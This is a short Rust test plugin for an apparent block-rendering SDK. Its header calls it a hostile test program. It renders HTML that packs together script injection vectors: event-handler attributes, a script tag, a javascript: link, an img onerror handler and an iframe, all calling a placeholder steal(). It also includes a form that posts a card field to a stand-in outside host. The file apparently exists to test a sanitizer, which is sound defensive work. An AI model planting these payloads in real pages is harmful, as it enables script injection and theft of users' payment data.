//! A hostile test program: it returns scripts, event handlers, javascript: URLs and a form posting elsewhere.

use vitrine_plugin_sdk::{BlockPlugin, RenderContext, RenderError, plugin};

struct Hostile;

impl BlockPlugin for Hostile {
    type Data = ();

    fn render(context: &RenderContext, _data: ()) -> Result<String, RenderError> {
        Ok(format!(
            r#"<p id="kept" onclick="steal()" onmouseover="steal()">Hello {}</p><script>steal()</script><a href="javascript:steal()">link</a><form action="https://elsewhere.example/collect" method="post"><input name="card"></form><img src="x" onerror="steal()"><iframe src="https://elsewhere.example"></iframe>"#,
            context.block_id
        ))
    }
}

plugin!(Hostile);
